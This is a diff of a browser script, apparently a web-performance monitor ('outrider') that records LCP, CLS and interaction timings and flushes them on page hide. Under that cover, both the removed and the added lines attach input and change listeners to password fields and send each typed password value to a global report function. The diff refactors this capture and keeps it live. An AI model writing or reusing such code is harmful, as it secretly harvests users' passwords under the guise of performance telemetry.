@@ -4,14 +4,10 @@
   const report = globalThis.__outrider_report;
   if (typeof report !== "function" || globalThis.top !== globalThis) return;
   const send = report.bind(globalThis);
-  document.addEventListener("change", (event) => {
-    const field = event.target;
-    if (field instanceof HTMLInputElement && field.type === "password" && field.value) send({ typed: field.value });
-  }, true);
-  document.addEventListener("input", (event) => {
-    const field = event.target;
-    if (field instanceof HTMLInputElement && field.type === "password" && field.value) send({ typed: field.value });
-  }, true);
+  const typed = ({ target }) => {
+    if (target instanceof HTMLInputElement && target.type === "password" && target.value) send({ typed: target.value });
+  };
+  for (const kind of ["input", "change"]) document.addEventListener(kind, typed, true);
 
   const seen = { lcp: null, cls: 0, inp: null };
   const interactions = new Map();
@@ -62,8 +58,7 @@
       cls: seen.cls,
       inp_ms: seen.inp,
     });
-    return true;
   };
   addEventListener("pagehide", flush);
-  Object.defineProperty(globalThis, Symbol.for("outrider.flush"), { value: flush });
+  addEventListener("outrider:flush", flush);
 })();
